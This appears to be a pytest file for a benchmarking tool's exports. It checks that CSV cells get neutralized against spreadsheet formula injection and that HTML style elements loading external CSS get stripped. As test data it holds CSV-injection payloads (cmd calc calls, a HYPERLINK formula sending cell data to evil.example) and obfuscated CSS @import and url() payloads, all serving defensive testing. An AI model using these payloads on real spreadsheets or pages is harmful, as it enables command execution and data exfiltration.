"""Exports safe to open (issue 64, item 8): every CSV the report and ``compare --csv`` write has its text cells
neutralized against a spreadsheet running them as formulas (a leading apostrophe), while numbers stay numbers,
read back with pandas; and the style check of the notebook copies and of the page catches every ``<style>``
element whatever its case and attributes, and every ``@import``/``url(`` inside, read by an independent parser."""
from __future__ import annotations

import csv
import io
import json
import math
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest

from workbench import cli
from workbench import report as rep
from workbench.csvsafe import FORMULA_STARTS, PLAIN_NUMBER, neutral_cell, neutralize, safe_csv
from workbench.report import html as page_html
from workbench.notebook_path import css_loads, strip_loading_styles
from workbench.results.meta import RunMeta
from workbench.studies import Summary
from workbench.results.tables import write_study_table

ATTACKS = ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "\n=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', " =1+1",
           "\uff1d1+1", "-", "=", "@"]
HARMLESS = ["plain", "", "1e5", "a=b", "it's", "'=already quoted", "x-1", "64", "-4", "+3", "-1.5e-3"]


def formula_like(cell: str) -> bool:
    """What a spreadsheet may run: a cell starting with a formula character (after blanks) that is not a
    plain number (a float column's "-1.5" is written exactly as such text)."""
    return (cell.lstrip(" \u00a0").startswith(FORMULA_STARTS) or cell.startswith(FORMULA_STARTS)) \
        and PLAIN_NUMBER.fullmatch(cell) is None


def csv_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


# --------------------------------------------------------------------------- the cells


@pytest.mark.parametrize("text", ATTACKS)
def test_a_text_cell_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutral_cell(text) == "'" + text and not formula_like(neutral_cell(text))


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_and_plain_numbers_in_text_are_kept(text):
    assert neutral_cell(text) == text


@pytest.mark.parametrize("value", [-1.5, -3, np.float64(-2.25), np.int64(-7), True, np.bool_(False), None,
                                   float("nan"), pd.NA, pd.Timestamp("2030-01-01"), -math.inf])
def test_numbers_dates_and_missing_values_are_not_touched(value):
    out = neutral_cell(value)
    assert out is value or (isinstance(value, float) and math.isnan(value) and math.isnan(out))


def test_an_object_is_written_as_its_neutralized_text():
    class Odd:
        def __str__(self):
            return "=cmd()"

    assert neutral_cell(Odd()) == "'=cmd()" and neutral_cell(b"@x") == "'@x"


def test_round_trip_through_pandas(tmp_path):
    """Written by safe_csv and read back: the attacks carry their apostrophe, the harmless text and the numeric
    columns (negative floats and ints, booleans) are as they were, the column names neutralized too."""
    texts = ATTACKS + HARMLESS
    n = len(texts)
    df = pd.DataFrame({"text": texts, "x": [-1.5 * i for i in range(n)], "n": [-i for i in range(n)],
                       "flag": [i % 2 == 0 for i in range(n)],
                       "mixed": [(-2.5 if i % 2 else "=2+2") for i in range(n)],
                       "cat": pd.Categorical(["@a" if i % 2 else "b" for i in range(n)]),
                       "=evil header": range(n)})
    before = df.copy()
    path = tmp_path / "out.csv"
    safe_csv(df, path)
    pd.testing.assert_frame_equal(df, before)                   # the caller's frame is not changed
    back = pd.read_csv(path, keep_default_na=False)
    assert back.columns.tolist() == ["text", "x", "n", "flag", "mixed", "cat", "'=evil header"]
    assert back["text"].tolist() == ["'" + t for t in ATTACKS] + HARMLESS
    assert back["x"].dtype == np.float64 and back["x"].tolist() == df["x"].tolist()
    assert back["n"].dtype == np.int64 and back["n"].tolist() == df["n"].tolist()
    assert back["flag"].dtype == bool and back["flag"].tolist() == df["flag"].tolist()
    assert back["mixed"].tolist() == [("-2.5" if i % 2 else "'=2+2") for i in range(n)]
    assert set(back["cat"]) == {"'@a", "b"}
    assert not [c for c in csv_cells(path) if formula_like(c)]
    assert safe_csv(df) == path.read_bytes().decode("utf-8")   # the text itself where no path is given
    assert neutralize(df)["x"].dtype == np.float64


# --------------------------------------------------------------------------- compare --csv


def test_compare_csv_is_neutralized_and_keeps_its_numbers(tmp_path, capsys):
    cases = ['=HYPERLINK("http://evil.example","x")', "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "fine"]
    for name, scale in (("a", 1.0), ("b", 2.0)):
        d = tmp_path / name
        d.mkdir()
        (d / "meta.json").write_text(json.dumps({"started_at": name}))
        t = pd.DataFrame({"case": cases, "tokens": [-4, 4, 8, 16], "device": "GPU", "metric": "=delta",
                          "value": [-5.0 * scale, 1.0, 2.0, -0.5], "unit": "+u"})
        write_study_table(t, d / "lat.parquet")
    out = tmp_path / "cmp.csv"
    assert cli.main(["compare", "a", "b", "--results", str(tmp_path), "--csv", str(out), "--all"]) == 0
    capsys.readouterr()
    back = pd.read_csv(out, keep_default_na=False)
    assert back["case"].tolist() == ["'" + c for c in cases[:3]] + ["fine"]
    assert set(back["metric"]) == {"'=delta"} and set(back["unit"]) == {"'+u"}
    assert back["tokens"].tolist() == [-4, 4, 8, 16]            # a parameter spelled "-4" is a plain number
    for col in ("a", "b", "ratio"):
        assert back[col].dtype == np.float64, col
    assert back["a"].tolist() == [-5.0, 1.0, 2.0, -0.5] and back["b"].tolist()[0] == -10.0
    assert not [c for c in csv_cells(out) if formula_like(c)]
    # compare recognizes its own (neutralized) file, so --force may replace it
    assert cli.main(["compare", "a", "b", "--results", str(tmp_path), "--csv", str(out), "--force"]) == 0


# --------------------------------------------------------------------------- the report's CSVs

EVIL = ['=HYPERLINK("http://evil.example","x")', "@SUM(A1)", "-2+3+cmd|' /C calc'!A0"]


def evil_study(name: str = "demo") -> SimpleNamespace:
    """A study whose key-number table holds formulas beside negative numbers."""

    def summarize(df: pd.DataFrame, out_dir: Path) -> Summary:
        table = pd.DataFrame({"case": EVIL, "value_us": [-1.5, 2.0, -3.25], "count": [-1, 2, 3]})
        return Summary(text=f"{name}: {df['run'].nunique()} run(s)", tables=[("=key numbers", table)])

    return SimpleNamespace(name=name, question="what it shows", summarize=summarize)


def test_every_csv_of_the_report_is_neutralized(tmp_path):
    from workbench.results.folder import RunFolder

    for name, started, scale in (("old", "2030-01-01T00:00:00.000Z", 1.0), ("new", "2030-01-02T00:00:00.000Z", 2.0)):
        meta = RunMeta.collect({"studies": {"demo": {}}})
        meta.device, meta.started_at = "NVIDIA H200", started
        run = RunFolder.create(tmp_path, name=name).path
        meta.write(run)
        write_study_table(pd.DataFrame({"case": EVIL, "device": "NVIDIA H200", "metric": "p50_ms",
                                        "value": [-1.0 * scale, 2.0, 3.0], "unit": "ms"}), run / "demo.parquet")
        meta.finish().write(run)
    result = rep.build_report(tmp_path, studies={"demo": evil_study()})
    out = result.index.parent
    files = sorted(out.rglob("*.csv"))
    assert any(f.name.startswith("compare-") for f in files) and any("key-numbers" in f.name for f in files)
    for f in files:
        bad = [c for c in csv_cells(f) if formula_like(c)]
        assert not bad, (f.name, bad)
    (key,) = [f for f in files if "key-numbers" in f.name and "newest" in f.name]
    back = pd.read_csv(key)
    assert back["case"].tolist() == ["'" + e for e in EVIL]
    assert back["value_us"].dtype == np.float64 and back["value_us"].tolist() == [-1.5, 2.0, -3.25]
    assert back["count"].dtype == np.int64 and back["count"].tolist() == [-1, 2, 3]
    (cmp,) = [f for f in files if f.name.startswith("compare-")]
    back = pd.read_csv(cmp)
    assert sorted(back["case"]) == sorted("'" + e for e in EVIL)
    older, newer = back.columns[-4:-2]                            # the two runs' values, named by the runs
    assert back[older].dtype == back[newer].dtype == np.float64
    assert (back[older].min(), back[newer].min()) == (-1.0, -2.0) and set(back["ratio"]) == {1.0, 2.0}


# --------------------------------------------------------------------------- the style check


class Styles(HTMLParser):
    """The content of every <style> element, as Python's own HTML parser reads it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.styles: list[str] = []
        self._in = False

    def handle_starttag(self, tag, attrs):
        if tag == "style":
            self._in = True
            self.styles.append("")

    def handle_endtag(self, tag):
        if tag == "style":
            self._in = False

    def handle_data(self, data):
        if self._in:
            self.styles[-1] += data


def styles_of(text: str) -> list[str]:
    p = Styles()
    p.feed(text)
    p.close()
    return p.styles


LOADING = [
    '<style media="screen">@import url(http://evil.example/x.css);</style>',
    '<STYLE type=text/css>@import "http://evil.example/x.css";</STYLE>',
    '<style title="a>b">p{background:url(http://evil.example/x.png)}</style>',
    "<style class=x>@import '//evil.example/x.css';</style>",
    '<style id="y" title="q">p{background:URL( //evil.example/y )}</style >',
    '<Style\tmedia="print"\n>@IMPORT "x.css";</sTyLe>',
    '<style title="</style>">@import "//evil.example/z.css";</style>',
    "<style title='>'>p{background-image:image-set('//evil.example/i.png' 1x)}</style>",
    r"<style>@\69mport '//evil.example/e.css';</style>",
    r"<style>p{background:\75 rl(//evil.example/e.png)}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>",
    "<style/>@import 'x.css';</style>",
    "<style>p{color:red}</style><style media=all>@import 'x.css'",       # never closed: to the end
]
KEPT = ["<style>p{color:red}</style>", '<style media="screen" class="nb">p{color:blue}</style>',
        "<style>p{background:url(data:image/png;base64,AAAA)}</style>"]


@pytest.mark.parametrize("element", LOADING)
def test_every_style_element_that_loads_is_removed(element):
    text = f"<p>before</p>{element}<p>after</p>"
    out = strip_loading_styles(text)
    assert "before" in out and not [s for s in styles_of(out) if css_loads(s)], out
    assert "evil.example" not in out and "x.css" not in out and "import" not in out.lower()


@pytest.mark.parametrize("element", KEPT)
def test_a_style_that_loads_nothing_is_kept_bare(element):
    out = strip_loading_styles(f"<p>x</p>{element}")
    assert out.startswith("<p>x</p><style>") and styles_of(out) == styles_of(element)


@pytest.mark.parametrize("element", LOADING)
def test_a_notebook_copy_keeps_no_style_that_loads(element):
    pytest.importorskip("nh3")
    out = rep.localize_html(f"<html><head>{element}</head><body><p>kept</p>{element}</body></html>")
    assert not [s for s in styles_of(out) if css_loads(s)], out
    assert "evil.example" not in out and "@import" not in out.lower()
    assert "<style " not in out.lower()                              # no attribute left on a style element


def test_a_notebook_copy_keeps_a_harmless_style_with_attributes():
    pytest.importorskip("nh3")
    out = rep.localize_html('<style media="screen" class="nb" title="a>b">p{color:blue}</style><p>kept</p>')
    assert "<style>p{color:blue}</style>" in out and "kept" in out


def test_the_pages_own_css_passes_the_same_check(tmp_path, monkeypatch):
    result = rep.build_report(tmp_path / "results", studies={}, out_dir=tmp_path / "r1")
    page = result.index.read_text(encoding="utf-8")
    assert len(styles_of(page)) == 1 and styles_of(page)[0].strip()   # the page keeps its own style
    evil = tmp_path / "page.css"
    evil.write_text("body{color:red}\n@import url(https://evil.example/x.css);\n", encoding="utf-8")
    monkeypatch.setattr(page_html, "CSS", evil)
    result = rep.build_report(tmp_path / "results", studies={}, out_dir=tmp_path / "r2")
    page = result.index.read_text(encoding="utf-8")
    assert "evil.example" not in page and styles_of(page) == [] and "Workbench report" in page


def test_no_pathological_tag_is_slow():
    import time

    t = time.monotonic()
    strip_loading_styles("<style " + "a" * 200_000)
    strip_loading_styles("<style " + 'a="b"' * 40_000)
    strip_loading_styles("<style>" + "</styl" * 40_000)
    assert time.monotonic() - t < 5


def test_csv_module_reads_what_pandas_reads():
    buf = io.StringIO(safe_csv(pd.DataFrame({"a": ["=1", "x"]})))
    assert list(csv.reader(buf)) == [["a"], ["'=1"], ["x"]]
